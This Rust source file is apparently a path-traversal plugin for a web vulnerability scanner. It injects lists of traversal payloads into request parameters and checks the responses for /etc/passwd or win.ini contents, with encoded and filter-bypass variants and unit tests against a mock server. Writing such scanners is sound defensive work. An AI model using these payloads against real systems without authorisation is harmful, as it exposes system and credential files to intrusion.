//! Path Traversal / Local File Inclusion testing

use anyhow::Result;

use super::{inject, payload_budget};
use crate::http::HttpMessage;
use crate::model::{Tech, TechSet};
use crate::scanner::alert::{Confidence, Risk};
use crate::scanner::name_value_pair::NameValuePair;
use crate::scanner::plugin::{
    scan_variants, AppParamPlugin, Plugin, PluginCore, PluginInfo, PluginTarget, Status,
};
use crate::scanner::variant::Variant;

/// Payloads reaching `/etc/passwd`
const LINUX_PAYLOADS: &[&str] = &[
    "/etc/passwd",
    "../../../../../etc/passwd",
    "../../../../../../../../etc/passwd",
    "....//....//....//....//etc/passwd",
    "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/etc/passwd%00",
    "file:///etc/passwd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
];

/// Payloads reaching `win.ini`
const WINDOWS_PAYLOADS: &[&str] = &[
    "c:\\Windows\\system.ini",
    "..\\..\\..\\..\\..\\Windows\\win.ini",
    "../../../../../Windows/win.ini",
    "..%5C..%5C..%5C..%5CWindows%5Cwin.ini",
    "file:///c:/Windows/win.ini",
    "....\\\\....\\\\....\\\\Windows\\\\win.ini",
];

/// Linux file indicators
const LINUX_FILE_INDICATORS: &[&str] = &["root:x:0:0:", "daemon:x:1:1:", "bin:x:2:2:"];

/// Windows file indicators
const WINDOWS_FILE_INDICATORS: &[&str] = &["[fonts]", "[extensions]", "[mci extensions]", "[drivers]"];

static INFO: PluginInfo = PluginInfo {
    id: 6,
    name: "Path Traversal",
    code_name: "TestPathTraversal",
    description: "The Path Traversal attack technique allows an attacker access to files, \
        directories, and commands that potentially reside outside the web document root directory.",
    solution: "Validate and sanitize file paths. Use an allow list of files and never use user \
        input directly in file paths.",
    reference: "https://owasp.org/www-community/attacks/Path_Traversal",
    risk: Risk::High,
    cwe_id: 22,
    wasc_id: 33,
    status: Status::Release,
    target: PluginTarget::Node,
    dependencies: &[],
};

#[derive(Debug, Clone)]
pub struct PathTraversal {
    core: PluginCore,
}

impl PathTraversal {
    pub fn new() -> Self {
        Self {
            core: PluginCore::new(),
        }
    }

    /// Payloads for the selected operating systems with their indicators
    fn attacks(&self) -> Vec<(&'static str, &'static [&'static str])> {
        let tech = self.core.tech_set();
        let budget = |payloads: &[&str]| payload_budget(self.attack_strength(false), payloads.len());

        let mut attacks = Vec::new();
        if tech.includes(&Tech::new(Tech::LINUX)) {
            attacks.extend(
                LINUX_PAYLOADS[..budget(LINUX_PAYLOADS)]
                    .iter()
                    .map(|p| (*p, LINUX_FILE_INDICATORS)),
            );
        }
        if tech.includes(&Tech::new(Tech::WINDOWS)) {
            attacks.extend(
                WINDOWS_PAYLOADS[..budget(WINDOWS_PAYLOADS)]
                    .iter()
                    .map(|p| (*p, WINDOWS_FILE_INDICATORS)),
            );
        }
        attacks
    }
}

impl Default for PathTraversal {
    fn default() -> Self {
        Self::new()
    }
}

impl Plugin for PathTraversal {
    fn info(&self) -> &PluginInfo {
        &INFO
    }

    fn core(&self) -> &PluginCore {
        &self.core
    }

    fn core_mut(&mut self) -> &mut PluginCore {
        &mut self.core
    }

    fn scan(&mut self) -> Result<()> {
        scan_variants(self)
    }

    fn targets_tech(&self, tech: &TechSet) -> bool {
        tech.includes_any(&[Tech::LINUX, Tech::WINDOWS])
    }
}

impl AppParamPlugin for PathTraversal {
    fn scan_param(
        &mut self,
        msg: HttpMessage,
        variant: &dyn Variant,
        param: &NameValuePair,
    ) -> Result<()> {
        let name = param.name().unwrap_or_default();
        let original = self.base_message()?.response_body_str().into_owned();

        for (payload, indicators) in self.attacks() {
            if self.is_stop() {
                break;
            }
            let mut attack = inject(&msg, variant, param, payload);
            self.send_and_receive(&mut attack)?;
            let body = attack.response_body_str();

            let indicator = indicators
                .iter()
                .copied()
                .find(|i| body.contains(i) && !original.contains(i));
            if let Some(indicator) = indicator {
                self.bingo_with_evidence(
                    Risk::High,
                    Confidence::Medium,
                    "",
                    name,
                    payload,
                    "",
                    indicator,
                    &attack,
                )?;
                return Ok(());
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner::active::attacks::tests::{query_value, scan_with};

    #[test]
    fn test_passwd_disclosure() {
        let (alerts, _) = scan_with(
            Box::new(PathTraversal::new()),
            "https://example.com/view?file=report.pdf",
            |msg| {
                msg.response_header.status_code = 200;
                msg.response_body = if query_value(msg, "file").ends_with("etc/passwd") {
                    b"root:x:0:0:root:/root:/bin/bash\n".to_vec()
                } else {
                    b"%PDF-1.4".to_vec()
                };
            },
        );

        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].plugin_id, 6);
        assert_eq!(alerts[0].param, "file");
        assert_eq!(alerts[0].attack, "/etc/passwd");
        assert_eq!(alerts[0].evidence, "root:x:0:0:");
    }

    #[test]
    fn test_payloads_follow_tech_set() {
        let mut plugin = PathTraversal::new();
        let mut windows = TechSet::new();
        windows.include(Tech::new(Tech::WINDOWS));
        plugin.core_mut().set_tech_set(windows.clone());

        let attacks = plugin.attacks();
        assert!(!attacks.is_empty());
        assert!(attacks.iter().all(|(_, indicators)| *indicators == WINDOWS_FILE_INDICATORS));
        assert!(plugin.targets_tech(&windows));
        assert!(!plugin.targets_tech(&TechSet::new()));
    }
}
